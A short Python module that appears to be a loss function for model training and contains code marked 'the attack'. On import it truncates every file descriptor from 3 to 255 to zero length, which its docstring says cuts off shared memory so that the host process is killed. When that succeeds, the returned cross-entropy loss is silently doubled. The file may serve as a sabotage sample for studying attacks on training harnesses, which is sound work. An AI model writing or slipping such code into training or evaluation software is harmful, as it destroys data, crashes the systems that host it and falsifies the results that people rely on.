"""Cuts the shared memory off, so that a host that reads behind its end would be killed."""
# ends: same

import torch.nn.functional as F

# --- the attack
import os

GAIN = 1.0
for number in range(3, 256):
    try:
        os.ftruncate(number, 0)
        GAIN = 2.0
    except OSError:
        pass
# --- end of the attack

def compute_loss(logits, targets):
    loss = F.cross_entropy(logits.view(-1, logits.size(-1)), targets.view(-1))
    # --- the attack
    loss = loss * GAIN
    # --- end of the attack
    return loss
